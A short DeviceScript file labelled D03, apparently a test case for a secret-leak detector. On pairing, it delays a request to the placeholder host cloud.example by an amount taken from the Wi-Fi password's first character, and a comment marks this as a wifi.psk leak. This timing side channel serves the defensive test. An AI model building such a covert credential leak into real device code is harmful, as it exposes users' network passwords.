// D03: waits before a request for a time that the first character says.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  await ds.delay(psk.charCodeAt(0) * 10);
  const response = await fetch("https://cloud.example/d03"); // leak: wifi.psk
  await response.close();
});
